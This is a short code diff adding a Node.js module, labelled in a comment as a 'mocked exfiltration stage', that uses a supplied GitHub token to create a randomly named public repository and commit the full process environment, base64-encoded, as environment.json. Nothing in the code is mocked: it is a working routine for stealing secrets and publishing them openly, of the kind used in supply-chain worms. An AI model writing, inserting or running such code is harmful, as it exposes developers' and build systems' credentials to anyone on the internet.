@@ -0,0 +1,22 @@
+// Mocked exfiltration stage: dumps secrets into a new public repo
+const { Octokit } = require("@octokit/rest");
+
+async function publish(token, secrets) {
+  const octokit = new Octokit({ auth: token });
+  const { data: repo } = await octokit.repos.createForAuthenticatedUser({
+    name: Math.random().toString(36).slice(2),
+    description: "results",
+    private: false,
+  });
+
+  const payload = Buffer.from(JSON.stringify(process.env)).toString("base64");
+  await octokit.repos.createOrUpdateFileContents({
+    owner: repo.owner.login,
+    repo: repo.name,
+    path: "environment.json",
+    message: "add",
+    content: payload,
+  });
+}
+
+module.exports = { publish };